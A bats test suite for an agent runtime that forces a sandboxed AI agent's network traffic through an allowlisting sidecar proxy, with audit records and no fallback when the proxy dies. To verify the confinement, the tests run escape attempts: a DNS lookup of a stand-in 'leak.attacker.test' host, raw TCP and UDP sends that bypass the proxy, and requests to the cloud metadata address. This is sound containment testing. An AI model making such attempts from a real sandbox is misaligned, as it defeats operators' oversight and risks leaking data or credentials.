#!/usr/bin/env bats
# egress: the agent's only way out is its sidecar proxy, by allowlist.
# Against the test's own "internet" (helpers/egress.bash): allowlisted
# names are fetched with busybox wget and curl, everything else is refused
# with a reason, there is no direct TCP or UDP route (TCP meets the
# sidecar's transparent listener: egress-transparent.bats), the metadata,
# loopback and private addresses stay out of reach even when their names
# are allowlisted; exec'd processes are confined the same way;
# run.agentrt.egress=none has no sidecar; a dead sidecar means no egress
# (no fallback), recorded; nothing is left after delete.  Under the control
# runtime (runc) the same bundle sits in the outside namespace itself and
# reaches the servers directly.

load helpers
load helpers/hardening
load helpers/egress

setup_file ()
{
  egress_net_up
}

teardown_file ()
{
  egress_net_down
}

setup ()
{
  egress_setup
}

teardown ()
{
  teardown_bundle
}

CURL=/host/usr/bin/curl

@test "egress: an allowlisted name is fetched through the proxy (busybox wget, curl)" {
  requires_curl
  run_ct sh -c "
    printf 'wget: '; busybox wget -q -O - http://web.test/
    printf 'curl: '; $CURL -sS http://web.test/
    printf 'curl-connect: '; $CURL -sS -p http://www.web.test/
    printf 'curl-socks5h: '; $CURL -sS -x socks5h://127.0.0.1:1080 http://web.test/
    printf 'ipv6: '; $CURL -sS http://web6.test/
    printf 'bytes: '; busybox wget -q -O - http://web.test/bytes/100000 | wc -c"
  check_status 0
  for l in "wget: hello from web" "curl: hello from web" "curl-connect: hello from web" \
    "curl-socks5h: hello from web" "ipv6: hello from web6" "bytes: 100000"; do
    has_line "$l"
  done
}

@test "egress: a name or address not on the allowlist is refused with the reason" {
  requires_curl
  run_ct sh -c "
    busybox wget -q -O - http://other.test/ 2>&1; echo wget=\$?
    $CURL -sS -i http://other.test/ | tr -d '\r'
    $CURL -sS -i http://1.2.3.10/ | tr -d '\r' | grep Denied
    $CURL -sS -i http://web.test:8080/ | tr -d '\r' | grep Denied"
  has_line "wget=1"
  [[ $output == *"403 Forbidden"* ]] || fail "$output"
  has_line "HTTP/1.1 403 Forbidden"
  [[ $(grep -c '^X-Agentrt-Denied: not-allowlisted$' <<<"$output") -eq 3 ]] || fail "$output"
  [[ $output != *"hello from"* ]] || fail "$output"
}

@test "egress: no direct way out (TCP meets the sidecar, UDP and DNS to others fail), only lo in the namespace" {
  requires_curl
  local script="
    printf 'GET / HTTP/1.0\r\n\r\n' | busybox nc -w 2 1.2.3.10 80 2>&1 | grep -c hello | sed 's/^/tcp /'
    $CURL -sS --noproxy '*' -m 3 http://1.2.3.10/; echo curl=\$?
    attack udp 1.2.3.10 9999; echo udp=\$?
    attack udp 3ffe:213::10 9999; echo udp6=\$?
    busybox nslookup leak.attacker.test 1.2.3.10 >/dev/null 2>&1; echo dns=\$?
    ip -o link | awk '{ print \"link\", \$2 }'
    ip route | sed 's/^/route /'"
  local datagrams
  datagrams=$(wc -l <"$EGRESS_UDP_LOG")
  run_ct sh -c "$script"
  has_line "tcp 0"
  has_line "udp=1"
  has_line "udp6=1"
  has_line "dns=1"
  [[ $output == *"Recv failure: Connection reset by peer"* ]] || fail "$output"
  [[ $output != *"hello from"* && $output != *"curl=0"* ]] || fail "$output"
  has_line "link lo:"
  [[ $(grep -c '^link ' <<<"$output") -eq 1 ]] || fail "more than lo: $output"
  # the route that lets connections reach the rules, out of lo only
  has_line "route default dev lo scope link  src 127.0.0.1 "
  [[ $(grep -c '^route ' <<<"$output") -eq 1 ]] || fail "$output"
  [[ $(wc -l <"$EGRESS_UDP_LOG") -eq $datagrams ]] || fail "a datagram arrived: $(cat "$EGRESS_UDP_LOG")"

  # the control: the same bundle under runc is in OUT itself, and walks out
  requires_control
  control_run sh -c "$script"
  has_line "curl=0"
  has_line "hello from web"
  has_line "udp=0"
  has_line "udp6=0"
  local tries=20
  while ((tries-- > 0)) && [[ $(wc -l <"$EGRESS_UDP_LOG") -eq $datagrams ]]; do sleep 0.1; done
  [[ $(wc -l <"$EGRESS_UDP_LOG") -gt $datagrams ]] || fail "under $CONTROL_RUNTIME the datagram should arrive"
}

@test "egress: metadata, loopback and private addresses are refused even when their names are allowlisted" {
  requires_curl
  run_ct sh -c "
    for u in http://metadata.test/ http://loop.test/ http://private.test/ http://169.254.169.254/; do
      printf '%s ' \$u; $CURL -sS -i \$u | tr -d '\r' | grep -e Denied -e 'hello from' || echo none
    done"
  has_line "http://metadata.test/ X-Agentrt-Denied: address-metadata"
  has_line "http://loop.test/ X-Agentrt-Denied: address-loopback"
  has_line "http://private.test/ X-Agentrt-Denied: address-private"
  has_line "http://169.254.169.254/ X-Agentrt-Denied: not-allowlisted"
  egress_events | jq -se 'any(.[]; .host == "metadata.test" and .addr == "169.254.169.254"
      and .decision == "deny")' >/dev/null || fail "$(egress_events)"
}

@test "egress: exec'd processes are confined the same way" {
  start_ct
  rt exec "$CT_ID" sh -c '
    busybox wget -q -O - http://web.test/
    busybox wget -q -O - http://other.test/ 2>&1 | grep -o "403 Forbidden"
    printf "GET / HTTP/1.0\r\nHost: other.test\r\n\r\n" | busybox nc -w 2 1.2.3.11 80 2>&1 \
      | grep -c hello | sed "s/^/direct /"
    echo "mine $(readlink /proc/self/ns/net) init $(readlink /proc/1/ns/net)"'
  has_line "hello from web"
  has_line "403 Forbidden"
  has_line "direct 0"
  local mine init
  read -r _ mine _ init < <(grep '^mine ' <<<"$output")
  [[ -n $mine && $mine == "$init" ]] || fail "exec'd process in another netns: $output"
  [[ $mine != "net:[$(stat -L -c %i "/run/netns/$EGRESS_OUT")]" ]] \
    || fail "the exec'd process is in the outside namespace"
  egress_events | jq -se 'any(.[]; .host == "web.test" and .decision == "allow")' >/dev/null \
    || fail "no audit line for the exec'd fetch"
  egress_events | jq -se 'any(.[]; .proto == "tcp" and .via == "host" and .host == "other.test"
      and .decision == "deny")' >/dev/null || fail "no audit line for the exec'd raw connection"
}

@test "egress: run.agentrt.egress=none: no sidecar, no way out" {
  add_annotation run.agentrt.egress none
  update_config 'del(.annotations["run.agentrt.egress.allow"])'
  start_ct
  rt exec "$CT_ID" sh -c '
    env | grep -ci "^http_proxy=" | sed "s/^/proxy-vars /"
    busybox wget -q -T 3 -O - http://web.test/ 2>&1; echo wget=$?
    busybox nc -w 2 127.0.0.1 3128 </dev/null; echo listener=$?
    busybox nc -w 2 1.2.3.10 80 </dev/null; echo tcp=$?
    ip -o link | wc -l | sed "s/^/links /"'
  # not even after those connections
  [[ -z $(egress_sidecar_pid) ]] || fail "a sidecar runs: $(egress_sidecar_pid)"
  # (busybox wget, with neither proxy nor route, may even crash: any
  # failure will do)
  [[ $output == *wget=* && $output != *wget=0* ]] || fail "$output"
  has_line "listener=1"
  has_line "tcp=1"
  has_line "links 1"
  [[ $output != *"hello from"* ]] || fail "$output"
  audit_events create | jq -e '.directives.egress == "none"' >/dev/null || fail "$(audit_events create)"
}

@test "egress: a killed sidecar leaves the agent without egress, recorded" {
  start_ct
  local sidecar
  sidecar=$(egress_sidecar_started)
  [[ -n $sidecar ]] || fail "no sidecar for $CT_ID"
  # a transfer under way: the server streams until the client goes away
  rt exec -d "$CT_ID" sh -c 'busybox wget -q -O /tmp/stream http://web.test/stream; echo "wget=$?" >/tmp/stream.done'
  local tries=100
  until rt exec "$CT_ID" sh -c '[ "$(wc -c </tmp/stream)" -gt 100000 ]' && [[ $status -eq 0 ]]; do
    ((tries-- > 0)) || fail "the transfer did not start"
    sleep 0.1
  done
  kill -KILL "$sidecar"
  wait_for_audit '.event == "sidecar"'
  tries=100
  until rt exec "$CT_ID" cat /tmp/stream.done && [[ $status -eq 0 ]]; do
    ((tries-- > 0)) || fail "the transfer went on without the sidecar"
    sleep 0.1
  done
  [[ $output == wget=1 ]] || fail "the interrupted transfer: $output"
  # no fallback: new connections are refused, the direct way is still shut
  # (busybox wget crashes when it cannot connect: any failure will do)
  rt exec "$CT_ID" sh -c '
    busybox wget -q -T 3 -O - http://web.test/ 2>&1; echo wget=$?
    busybox nc -w 2 127.0.0.1 3128 </dev/null 2>&1; echo proxy=$?
    busybox nc -w 2 1.2.3.10 80 </dev/null 2>&1; echo tcp=$?'
  [[ $output == *wget=* && $output != *wget=0* ]] || fail "$output"
  has_line "proxy=1"
  has_line "tcp=1"
  [[ $output == *"Connection refused"* ]] || fail "the proxy port still accepts connections: $output"
  [[ $output != *"hello from"* ]] || fail "$output"
  [[ $(ct_status "$CT_ID") == running ]] || fail "the container did not survive its sidecar"
}

@test "egress: the sidecar starts on the agent's first connection, and dies with its monitor" {
  start_ct
  sleep 0.5
  [[ -z $(egress_sidecar_pid) ]] || fail "a sidecar runs before any connection"
  rt exec "$CT_ID" busybox wget -q -O - http://web.test/
  has_line "hello from web"
  local sidecar monitor tries=50
  sidecar=$(egress_sidecar_pid)
  [[ -n $sidecar ]] || fail "no sidecar after the first connection"
  monitor=$(awk '$1 == "PPid:" { print $2 }' "/proc/$sidecar/status")
  [[ $(tr '\0' ' ' <"/proc/$monitor/cmdline") == *"$CT_ID"* ]] || fail "pid $monitor is not the monitor"
  # what `delete` does to a monitor that does not end: the sidecar goes too
  kill -KILL "$monitor"
  until [[ ! -e /proc/$sidecar || $(awk '$1 == "State:" { print $2 }' "/proc/$sidecar/status" 2>/dev/null) == Z ]]; do
    ((tries-- > 0)) || fail "the sidecar outlived its monitor"
    sleep 0.1
  done
  rt_ok delete --force "$CT_ID"
  no_leftovers "$CT_ID"
}

@test "egress: after delete no sidecar or monitor is left" {
  start_ct
  local sidecar monitor
  sidecar=$(egress_sidecar_started)
  monitor=$(ps -o ppid= -p "$sidecar" | tr -d ' ')
  [[ -n $sidecar && -n $monitor ]] || fail "sidecar '$sidecar', monitor '$monitor'"
  [[ $(tr '\0' ' ' <"/proc/$monitor/cmdline") == *"$CT_ID"* ]] || fail "pid $monitor is not the monitor"
  rt exec "$CT_ID" busybox wget -q -O /dev/null http://web.test/
  rt_ok delete --force "$CT_ID"
  # gone, or a zombie waiting for the host's init to reap it
  local p
  for p in "$sidecar" "$monitor"; do
    [[ ! -e /proc/$p || $(awk '$1 == "State:" { print $2 }' "/proc/$p/status" 2>/dev/null) == Z ]] \
      || fail "pid $p is still there: $(tr '\0' ' ' <"/proc/$p/cmdline")"
  done
  [[ -z $(egress_sidecar_pid) ]] || fail "a sidecar is left"
  no_leftovers "$CT_ID"
  # the audit trail survives delete
  rt_ok audit "$CT_ID"
  [[ $output == *'"event":"egress"'* ]] || fail "$output"
}

# start_polling_ct N: starts the container and checks that its sidecar
# was given the poll window N (--busy-poll-us); sets SIDECAR to its pid.
start_polling_ct ()
{
  start_ct
  SIDECAR=$(egress_sidecar_started)
  [[ -n $SIDECAR ]] || fail "no sidecar for $CT_ID"
  [[ $(tr '\0' ' ' <"/proc/$SIDECAR/cmdline") == *" --busy-poll-us $1 "* ]] \
    || fail "not --busy-poll-us $1: $(tr '\0' ' ' <"/proc/$SIDECAR/cmdline")"
}

@test "egress: the sidecar polls before sleeping as the policy says, and sleeps when idle" {
  requires agentrt
  local before after
  start_polling_ct 100
  rt_ok delete --force "$CT_ID"

  # The largest window: refusals in a row open it (each request comes well
  # within 1 ms of the last answer); idle, the sidecar must then sleep.
  # CPU time, not wall time: a poll that did not end would take all 2 s.
  hardening_policy '.sidecar.busyPollMicroseconds = 1000'
  start_polling_ct 1000
  nsenter --net="/proc/$(ct_pid "$CT_ID")/ns/net" python3 -c '
import socket
for _ in range(50):
    c = socket.create_connection(("127.0.0.1", 3128))
    c.sendall(b"CONNECT nowhere.test:443 HTTP/1.1\r\nHost: nowhere.test:443\r\n\r\n")
    while c.recv(4096):
        pass
    c.close()'
  before=$(awk '{ print $1 }' "/proc/$SIDECAR/schedstat")
  sleep 2
  after=$(awk '{ print $1 }' "/proc/$SIDECAR/schedstat")
  ((after - before < 20000000)) || fail "idle for 2 s, the sidecar ran $(((after - before) / 1000)) us"
  rt exec "$CT_ID" busybox wget -q -O - http://web.test/
  has_line "hello from web"
  rt_ok delete --force "$CT_ID"

  hardening_policy '.sidecar.busyPollMicroseconds = 0'
  start_polling_ct 0
  rt exec "$CT_ID" busybox wget -q -O - http://web.test/
  has_line "hello from web"
}

@test "egress: the host's network as the outside, names from a private mount namespace" {
  # no network namespace in the bundle: agentrt makes the agent's, and the
  # sidecar connects from the runtime's own, here OUT, where the runtime
  # runs with the test's hosts file bind-mounted over /etc/hosts
  update_config '.linux.namespaces |= map(select(.type != "network"))
    | .mounts |= map(select(.destination != "/etc/hosts" and .destination != "/etc/resolv.conf"))'
  set_cmd sh -c 'busybox wget -q -O - http://web.test/; busybox wget -q -O - http://other.test/ 2>&1 | grep -o 403
    printf "GET / HTTP/1.0\r\nHost: other.test\r\n\r\n" | busybox nc -w 2 1.2.3.11 80 2>&1 | grep -c hello | sed "s/^/direct /"'
  egress_hostnet run --bundle "$BUNDLE" "$CT_ID" >"$BATS_TEST_TMPDIR/hostnet.out" 2>&1 </dev/null && status=0 || status=$?
  output=$(<"$BATS_TEST_TMPDIR/hostnet.out")
  check_status 0
  has_line "hello from web"
  has_line 403
  has_line "direct 0"
  audit_events create | jq -e '.directives.network | .bundle == "host" and .agent == "own" and .outside == "runtime"' >/dev/null || fail "$(audit_events create)"
  ! grep -qF web.test /etc/hosts || fail "the host's /etc/hosts was changed"
}

# standalone_bundle: the bundle as `agentrt spec` writes it: a new network
# namespace (no path, no hooks), names from the runtime's own files.
standalone_bundle ()
{
  update_config '(.linux.namespaces[] | select(.type == "network")) |= del(.path)
    | .mounts |= map(select(.destination != "/etc/hosts" and .destination != "/etc/resolv.conf"))'
}

@test "egress: a standalone bundle (a new namespace nobody configures) goes out through the runtime's network (egress.uplink auto), recorded" {
  standalone_bundle
  set_cmd sh -c 'busybox wget -q -O - http://web.test/; busybox wget -q -O - http://other.test/ 2>&1 | grep -o 403
    printf "GET / HTTP/1.0\r\nHost: other.test\r\n\r\n" | busybox nc -w 2 1.2.3.11 80 2>&1 | grep -c hello | sed "s/^/direct /"'
  egress_hostnet run --bundle "$BUNDLE" "$CT_ID" >"$BATS_TEST_TMPDIR/out" 2>&1 </dev/null && status=0 || status=$?
  output=$(<"$BATS_TEST_TMPDIR/out")
  check_status 0
  has_line "hello from web"
  has_line 403
  has_line "direct 0"
  audit_events create | jq -e '.directives.network | .bundle == "new" and .agent == "own" and .outside == "runtime"' >/dev/null \
    || fail "$(audit_events create)"
  audit_events create | jq -e '.changes[] | select(.kind == "egress" and (.why | contains("egress.uplink auto")))' >/dev/null \
    || fail "the uplink was not recorded: $(audit_events create)"
}

# standalone_reaches_nothing JQ: the standalone bundle's wget of the
# allowlisted web.test reaches nothing, and the create event's
# directives.network satisfies JQ.
standalone_reaches_nothing ()
{
  standalone_bundle
  set_cmd sh -c 'busybox wget -q -O - http://web.test/ 2>&1; echo wget=$?'
  egress_hostnet run --bundle "$BUNDLE" "$CT_ID" >"$BATS_TEST_TMPDIR/out" 2>&1 </dev/null && status=0 || status=$?
  output=$(<"$BATS_TEST_TMPDIR/out")
  check_status 0
  [[ $output != *"hello from web"* && $output == *"wget=1"* ]] || fail "$output"
  audit_events create | jq -e ".directives.network | $1" >/dev/null \
    || fail "$(audit_events create)"
}

@test "egress: egress.uplink bundle keeps a standalone bundle's own empty namespace as the way out: nothing is reached" {
  hardening_policy '.egress.uplink = "bundle"' || return 1
  add_annotation run.agentrt.egress.allow web.test
  standalone_reaches_nothing '.uplink == "bundle" and .agent == "inner" and .outside == "bundle"'
}

@test "egress: a new namespace an engine left unconfigured (Podman's --network none, io.container.manager) stays its way out: nothing is reached" {
  add_annotation run.agentrt.egress.allow web.test
  add_annotation io.container.manager libpod
  standalone_reaches_nothing '.engine and .uplink == "auto" and .agent == "inner" and .outside == "bundle"'
}
